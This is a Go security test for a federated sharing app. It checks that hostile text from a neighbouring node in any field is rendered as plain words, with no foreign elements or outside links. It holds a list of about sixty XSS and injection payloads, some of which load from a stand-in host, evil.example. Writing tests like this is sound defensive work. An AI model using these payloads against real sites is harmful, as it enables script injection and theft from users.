package main

import (
	"encoding/json"
	"fmt"
	"html"
	"maps"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	markup "golang.org/x/net/html"
)

// What others write is words on our pages: no element, no attribute and no address of theirs is ever in them, whatever they write
// and wherever (security B1, B2, B4, B12, and protocol 8 case 82). A node whose neighbours write plainly shows which elements with which
// attributes there are; one whose neighbours are hostile shows no other.
func TestHostile_foreignWordsAreWordsOnEveryPage(t *testing.T) {
	t.Parallel()
	plain := newReader(t, slices.Repeat([]string{"harmless", "harmless & <calm>"}, 20)) // enough for a second page
	known := map[string]bool{}
	for _, page := range plain.pages() {
		for _, shape := range shapes(t, page) {
			known[shape] = true
		}
	}
	hostile := newReader(t, payloads())
	marked := 0
	for at, page := range hostile.pages() {
		for _, shape := range shapes(t, page) {
			if !known[shape] {
				t.Errorf("%s has %s", at, shape)
			}
			if strings.HasPrefix(shape, "a ") && strings.Contains(page, "external") && !strings.Contains(page, `rel="external nofollow noopener noreferrer ugc"`) {
				t.Errorf("%s follows others without care", at)
			}
		}
		for _, link := range links(t, page) {
			if !strings.HasPrefix(link, "/") && !strings.HasPrefix(link, "#") && !strings.HasPrefix(link, "?") && !hostile.isOurs(link) || strings.HasPrefix(link, "//") {
				t.Errorf("%s leads to %q", at, link)
			}
		}
		marked += strings.Count(page, "marked")
	}
	if marked < 5*len(payloads()) {
		t.Errorf("only %d of the words are anywhere: this proves little", marked)
	}
}

// payloads are 120 ways in which words have become more than words elsewhere (OWASP's list, mutations of parsers, what Mastodon had).
func payloads() (all []string) {
	seeds := []string{
		`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `</title><script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, `<img src="https://evil.example/pixel">`, `<img srcset="https://evil.example/p 1x">`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><animate onbegin=alert(1) attributeName=x>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math href="javascript:alert(1)">x</math>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><img src=x onerror=alert(1)></template>`, `<form><form action=//evil.example><input name=x>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="&#x6A;avascript:alert(1)">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="https://bank.example" onclick=alert(1)>x</a>`,
		`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
		`<style>@import'//evil.example';</style>`, `<div style="background:url(//evil.example)">x</div>`, `<link rel=stylesheet href=//evil.example>`, `<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
		`<marquee onstart=alert(1)>`, `<body onload=alert(1)>`, `<textarea><img title="</textarea><img src onerror=alert(1)>">`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
		`<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><x/>`, `<%<img src=x onerror=alert(1)>`, `<p id=x class=n-Button name=attributes>`,
		`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `"><img src=x onerror=alert(1)>`, `'><svg/onload=alert(1)>`, `</bdi></h1><h1>forged`, `</p></main><main>`,
		"`onmouseover=alert(1)`", `{{.Secret}}`, `{{template "x"}}`, `${alert(1)}`, `%s%n%v`, `]]></content><entry>`, "\r\nBEGIN:VEVENT\r\nSUMMARY:x", `=HYPERLINK("https://evil.example")`,
	}
	for _, seed := range seeds {
		all = append(all, "marked "+seed+" marked", "marked "+html.EscapeString(seed)+" marked")
	}
	return all
}

// reader is a steward at a node whose neighbour writes the given words in every field that it has.
type reader struct {
	*door
	n      *node
	choose string // a thing that its giver chooses for
}

func newReader(t *testing.T, words []string) *reader {
	t.Helper()
	birch := playBirch(t)
	house := settle(t, "sqlite", birch)
	n := house.open()
	r := &reader{door: &door{house, n.Handler(), birch}, n: n}
	r.choose = r.gives()
	for i, word := range words {
		r.hears(i, word)
	}
	n.clock.Advance(48 * time.Hour)
	n.rest(t)
	if err := house.cameBefore(n.store); err != nil { // whose things were asked for
		t.Fatal(err)
	}
	return r
}

// gives publishes a thing of the first member's, for which she chooses herself.
func (r *reader) gives() (id string) {
	r.Helper()
	made := r.read(r.program("POST", "/offers", "application/json", `{"title": "A rake", "audience": "friends", "choose": "giver"}`), http.StatusCreated)
	var answer struct{ ID string }
	if err := json.Unmarshal(made, &answer); err != nil {
		r.Fatal(err)
	}
	id = answer.ID
	r.read(r.program("POST", "/offers/"+id+"/publish", "application/json", "{}"), http.StatusOK)
	return id
}

// hears has the neighbour say one thing in every field.
func (r *reader) hears(nth int, word string) {
	r.Helper()
	id := fmt.Sprint("w", nth)
	listing := r.birch.listing(id, 1, word)
	intent := listing["publishes"].(doc)
	intent["content"] = word
	maps.Copy(listing, doc{
		"contentMap": doc{word[:min(len(word), 200)]: word}, "location": doc{"type": "Place", "name": word}, "url": word, "pots:category": word, "pots:condition": word,
		"attachment": []any{doc{"type": "Image", "url": word, "name": word}}, "to": "as:Public", "summary": word, "tag": []any{doc{"name": word, "href": word}},
	})
	link := maps.Clone(listing)
	link["id"], link["url"] = r.birch.url+"/ap/offers/link"+id, "https://bank.example/"+id
	agreement, terms := r.birch.wish(r.config.URL, "", handleOf(id), ticketOf(id))
	agreement["stipulates"].(doc)["satisfies"] = r.config.URL.Intent(r.choose)
	offer := r.birch.activity("offer-"+id, "Offer", agreement)
	maps.Copy(offer, terms)
	offer["content"], offer["location"], offer["pots:nickname"] = word, doc{"name": word}, word
	to := r.config.URL.Collective()
	letter := doc{
		"id": r.birch.url + "/ap/notes/" + id, "type": "Note", "attributedTo": r.birch.actor(), "to": []string{to}, "content": word, "name": word, "summary": word,
		"contentMap": doc{word[:min(len(word), 200)]: word}, "tag": []doc{{"type": "Mention", "href": to, "name": word}}, "inReplyTo": r.config.URL.Offer(r.choose), "url": word,
	}
	r.birch.about = doc{"name": word, "summary": word, "preferredUsername": word, "url": word, "icon": doc{"url": word}, "attachment": []any{doc{"name": word, "value": word}}}
	for _, says := range []doc{
		r.birch.activity("create-"+id, "Create", listing), r.birch.activity("link-"+id, "Create", link), offer, r.birch.activity("letter-"+id, "Create", letter),
		r.birch.activity("update-"+id, "Update", r.birch.actor()),
	} {
		w := httptest.NewRecorder()
		if r.handler.ServeHTTP(w, r.inbox(says)); w.Code != http.StatusAccepted {
			r.Fatalf("%s: %d %s", says["type"], w.Code, w.Body)
		}
	}
	r.n.rest(r.T)
}

// pages are all that the giver and a steward reach from their first page by links.
func (r *reader) pages() map[string]string {
	r.Helper()
	all := r.crawl()
	if err := r.cameBeforeAs(r.n.store, r.steward); err != nil {
		r.Fatal(err)
	}
	for at, page := range r.crawl() {
		all["steward "+at] = page
	}
	return all
}

func (r *reader) crawl() map[string]string {
	r.Helper()
	const most = 700
	pages, next := map[string]string{}, []string{"/today", "/offers", "/stewards", "/neighbours", "/queue", "/claims", "/us", "/offers/" + r.choose, "/offers/" + r.choose + "/choose", "/export", "/api/v1/offers"}
	for len(next) > 0 && len(pages) < most {
		at := next[0]
		if next = next[1:]; pages[at] != "" {
			continue
		}
		w := httptest.NewRecorder()
		r.handler.ServeHTTP(w, r.browser("GET", at, "", ""))
		if w.Code >= 500 {
			r.Errorf("%s: %d", at, w.Code)
		}
		if !strings.HasPrefix(w.Header().Get("Content-Type"), "text/html") {
			if w.Header().Get("X-Content-Type-Options") != "nosniff" {
				r.Errorf("%s may be taken for a page", at)
			}
			continue
		}
		pages[at] = w.Body.String()
		for _, link := range links(r.T, pages[at]) {
			filtered := strings.Contains(link, "category=") || strings.Contains(link, "plain=") // the same rows once more
			if strings.HasPrefix(link, "/") && !strings.HasPrefix(link, "/static") && !strings.HasPrefix(link, "/media") && !filtered {
				next = append(next, link)
			} else if strings.HasPrefix(link, "?") && !filtered {
				path, _, _ := strings.Cut(at, "?")
				next = append(next, path+link)
			}
		}
	}
	return pages
}

func (r *reader) read(q *http.Request, want int) []byte {
	r.Helper()
	w := httptest.NewRecorder()
	if r.handler.ServeHTTP(w, q); w.Code != want {
		r.Fatalf("%s: %d\n%s", q.RequestURI, w.Code, w.Body)
	}
	return w.Body.Bytes()
}

// isOurs reports whether an address is of this node or of the neighbour itself.
func (r *reader) isOurs(link string) bool {
	return strings.HasPrefix(link, string(r.config.URL)) || strings.HasPrefix(link, r.birch.url+"/")
}

// shapes are the elements of a page, each with the names of its attributes, as it is read and as it would be read again.
func shapes(t *testing.T, page string) (all []string) {
	t.Helper()
	walk(t, page, func(e *markup.Node) {
		names := []string{e.Data}
		if e.Type == markup.CommentNode {
			names = []string{"a comment"}
		}
		for _, a := range e.Attr {
			names = append(names, a.Key)
		}
		slices.Sort(names[1:])
		all = append(all, strings.Join(names, " "))
	})
	return all
}

// links are the addresses of a page.
func links(t *testing.T, page string) (all []string) {
	t.Helper()
	walk(t, page, func(e *markup.Node) {
		for _, a := range e.Attr {
			switch a.Key {
			case "href", "src", "action", "formaction", "srcset", "data", "poster", "cite", "background":
				all = append(all, a.Val)
			}
		}
	})
	return all
}

func walk(t *testing.T, page string, visit func(*markup.Node)) {
	t.Helper()
	root, err := markup.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var again strings.Builder
	if err := markup.Render(&again, root); err != nil {
		t.Fatal(err)
	}
	mutated, err := markup.Parse(strings.NewReader(again.String()))
	if err != nil {
		t.Fatal(err)
	}
	for _, tree := range []*markup.Node{root, mutated} {
		for e := range tree.Descendants() {
			if e.Type == markup.ElementNode || e.Type == markup.CommentNode {
				visit(e)
			}
		}
	}
}
